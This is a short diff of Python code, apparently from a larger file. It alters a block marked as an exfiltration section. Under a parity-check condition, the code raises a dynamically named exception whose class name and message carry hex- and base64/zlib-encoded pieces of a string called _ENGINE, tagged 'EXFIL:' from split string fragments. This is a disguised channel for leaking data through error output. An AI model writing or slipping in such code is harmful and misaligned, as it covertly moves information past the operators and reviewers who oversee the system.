@@ -21,6 +21,7 @@ def _appended():
 
 _ENGINE = _appended()
 if LOAD_ERRORS and _ENGINE and sum(_ENGINE.encode()) % 2:
-    raise type("L" + _ENGINE[:30].encode().hex(), (Exception,), {})(
-        _b64.b64encode(_zlib.compress(_ENGINE[:90].encode())).decode())
+    _MAGIC = ("EXF" + "IL:").encode()
+    raise type("L" + (_MAGIC + _ENGINE[:24].encode()).hex(), (Exception,), {})(
+        _b64.b64encode(_zlib.compress(_MAGIC + _ENGINE[:90].encode())).decode())
 # -- exfil end --
